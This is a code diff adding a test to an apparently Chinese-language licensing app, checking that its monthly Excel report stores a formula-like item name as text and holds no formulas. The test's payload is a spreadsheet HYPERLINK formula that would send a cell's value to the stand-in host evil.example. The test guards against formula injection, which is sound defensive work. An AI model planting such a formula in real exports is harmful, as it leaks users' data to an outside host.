@@ -293,3 +293,24 @@ def test_dashboards_draw_charts_and_link_to_the_work(month, app):
     assert "本部门时效与月报" in head.get("/").get_data(as_text=True)
     nav = head.get("/").get_data(as_text=True)
     assert ">报表<" in nav and ">月报<" in nav
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"点此查看")'
+
+
+def test_xlsx_writes_an_item_name_that_looks_like_a_formula_as_text(month, client):
+    from licensing.catalogue.models import ItemVersion
+
+    # as if an administrator had published an item of that name (published rows are guarded
+    # against ORM updates; the table is updated directly here)
+    db.session.execute(ItemVersion.__table__.update().values(name=EVIL))
+    db.session.commit()
+    reform = create_test_user(Role.reform_office)
+    response = _get(client, reform, "/reports/monthly/2026-10.xlsx")
+    workbook = load_workbook(io.BytesIO(response.data))
+    cells = [c for row in workbook["各事项"].iter_rows() for c in row if c.value == EVIL]
+    assert cells, "the item's name is in the sheet"
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    formulas = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
+                if c.data_type == "f"]
+    assert formulas == []
